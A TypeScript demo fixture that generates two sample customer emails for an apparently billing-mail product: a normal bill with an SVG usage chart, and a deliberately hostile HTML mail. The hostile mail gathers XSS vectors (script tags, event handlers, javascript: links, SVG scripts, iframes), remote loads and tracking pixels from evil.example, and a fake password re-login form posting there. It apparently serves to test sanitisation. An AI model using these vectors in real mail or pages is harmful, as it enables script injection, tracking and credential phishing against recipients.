// Mails that the demo's customers have had: one as a biller writes it, with pictures, and one full of what no mail may do. Both tell of what is
// true of their readers in the demo.
import { dayFormat, moneyFormat, type Language } from "@billwright/schemas";
import { logIdOf, mailPage } from "../../features/platform/index.ts";
import type { Bill } from "../../providers/biller/biller.ts";
import { harbor } from "../account.ts";
import { billsOf } from "../bills.ts";
import { harborRecipients, type DemoRecipient } from "../recipients.ts";
import { usageOf } from "../usage.ts";

export interface DemoMail {
  accountId: string;
  key: string;
  recipientId: string;
  to: string;
  category: string;
  subject: string;
  text: string;
  html: string;
  /** Its pictures by their addresses; SVG. */
  pictures: Readonly<Record<string, string>>;
  sentAt: Date;
}

type Key = Pick<DemoMail, "accountId" | "key" | "recipientId">;

const bill: Key = { accountId: harbor.id, key: "demo:new-bill", recipientId: "100201" };
const hostile: Key = { accountId: harbor.id, key: "demo:hostile-html", recipientId: "100341" };

const billsHost = "https://www.harborlight.example";
const chart = `${billsHost}/mail/usage.svg`;
const tallest = 94;
const dayMs = 86_400_000;

const money = moneyFormat("en", harbor.country);
const dateText = dayFormat("en");

/** Six months of use, as the biller's own server draws it. */
function drawUsage(recipientId: string, now: string): string {
  const amounts = usageOf(recipientId, now)
    .items.slice(-6)
    .map(({ usage }) => usage);
  const heights = amounts.map((usage) => Math.round((tallest * usage) / Math.max(...amounts)));
  const bars = heights
    .map(
      (height, index) =>
        `<rect x="${16 + index * 48}" y="${110 - height}" width="30" height="${height}" rx="4" fill="#1f6f8b"/>`,
    )
    .join("");
  return `<svg xmlns="http://www.w3.org/2000/svg" width="304" height="120" viewBox="0 0 304 120"><rect width="304" height="120" rx="8" fill="#eef6f8"/>${bars}<path d="M8 110h288" stroke="#16202c"/></svg>`;
}

const page = (subject: string, body: string, language: Language = "en") => mailPage(language, subject, body);

/** What a bill adds up. */
const amountsOf = ({ lines, previousBalance, payments }: Bill) => [
  ...lines,
  ...(previousBalance > 0 ? [{ label: "Owed from before", amount: previousBalance }] : []),
  ...(payments > 0 ? [{ label: "Paid since", amount: -payments }] : []),
];

const amountRow = ({ label, amount }: { label: string; amount: number }) =>
  `<tr><th scope="row" style="padding:6px 24px 6px 0;text-align:left;font-weight:400">${label}</th><td style="padding:6px 0;text-align:right">${money(amount)}</td></tr>`;

function billMail(customer: DemoRecipient, now: string): DemoMail {
  const newest = billsOf(harbor, customer, now).at(-1)!;
  const amount = money(newest.amountDue);
  const due = newest.due === null ? "" : `, due on ${dateText(newest.due)}`;
  const subject = "Your new bill is ready";
  return {
    ...bill,
    to: customer.email,
    category: "New bill",
    subject,
    text: `Dear ${customer.name}, your new bill is ready: ${amount}${due}.`,
    html: page(
      subject,
      `<table role="presentation" align="center" width="100%" style="max-width:560px;table-layout:fixed;margin:24px auto;background:#ffffff;border-radius:8px">
<tr><td style="padding:24px 24px 0"><img src="${chart}" alt="What you used in the last six months" width="304" height="120" style="max-width:100%;height:auto"></td></tr>
<tr><td style="padding:24px"><h1 style="margin:0 0 12px;font-size:22px;line-height:1.3">${subject}</h1>
<p style="margin:0 0 12px">Dear ${customer.name}, your bill is <strong>${amount}</strong>${due}.</p>
<table style="border-collapse:collapse;margin:0 0 16px">${amountsOf(newest).map(amountRow).join("\n")}</table>
<p style="margin:0"><a href="${billsHost}/pay" style="display:inline-block;padding:12px 24px;border-radius:6px;background:#14506b;color:#ffffff;font-weight:600;text-decoration:none">Pay now</a></p></td></tr></table>`,
    ),
    pictures: { [chart]: drawUsage(customer.id, now) },
    sentAt: new Date(newest.issued),
  };
}

const seen = `${billsHost}/mail/lamp.svg`;
const lamp = `<svg xmlns="http://www.w3.org/2000/svg" width="96" height="96" viewBox="0 0 96 96"><script>top.hostile=1</script><circle cx="48" cy="48" r="44" fill="#f2c230"/><path d="M48 20v34M48 66v6" stroke="#5a3d00" stroke-width="10" stroke-linecap="round"/></svg>`;

/** Everything that a mail has been seen to try: scripts, frames, forms, other people's pictures, styles that cover the page or load. */
const hostileMail = (customer: DemoRecipient, now: string): DemoMail => ({
  ...hostile,
  to: customer.email,
  category: "Payment reminders",
  subject: "A reminder <script>top.hostile=1</script>",
  text: "A mail that tries everything.",
  html: `<!doctype html><html lang="en"><head><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><link rel="stylesheet" href="https://evil.example/a.css"><style>@import "https://evil.example/b.css"; body{background:url(https://evil.example/c.png)}</style><script>top.hostile=1</script></head>
<body onload="top.hostile=1"><h1 style="font-size:22px;color:#7a1f1f">A reminder</h1>
<p style="position:fixed;inset:0;background:url(https://evil.example/d.png);background:u\\72l(https://evil.example/e.png);color:#16202c">Dear ${customer.name}, you still owe <b>${money(Number(customer.balance))}</b>.</p>
<img src="${seen}" alt="A lamp" width="96" height="96" onerror="top.hostile=1" onload="top.hostile=1">
<img src="https://evil.example/pixel.gif" alt="Not stored" width="40" height="40"><img srcset="https://evil.example/s.png 2x" alt="">
<img src=x onerror="top.hostile=1"><svg onload="top.hostile=1"><image href="https://evil.example/f.png"/></svg><video src="https://evil.example/v.mp4" autoplay></video>
<iframe src="https://evil.example/frame" srcdoc="<script>top.hostile=1</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/p">
<form action="https://evil.example/form"><input name="password" autofocus onfocus="top.hostile=1"><button>Sign in again</button></form>
<a id="js" href="javascript:top.hostile=1">Run</a> <a id="out" href="https://www.harborlight.example/help" ping="https://evil.example/ping" onclick="top.hostile=1">Help</a>
<details ontoggle="top.hostile=1" open><summary>More</summary></details><math><mi xlink:href="javascript:top.hostile=1">x</mi></math></body></html>`,
  pictures: { [seen]: lamp },
  sentAt: new Date(Date.parse(now) - 3 * dayMs),
});

/** As they stand at `now` (ISO 8601). */
export function demoMails(now: string): DemoMail[] {
  const customers = harborRecipients(now);
  const readerOf = ({ recipientId }: Key) => customers.find(({ id }) => id === recipientId)!;
  return [billMail(readerOf(bill), now), hostileMail(readerOf(hostile), now)];
}

/** Under which each is in the log. */
export const demoLogId = ({ accountId, key }: Pick<DemoMail, "accountId" | "key">): string =>
  logIdOf("mail", { accountId, key });
export const billLogId = demoLogId(bill);
export const hostileLogId = demoLogId(hostile);
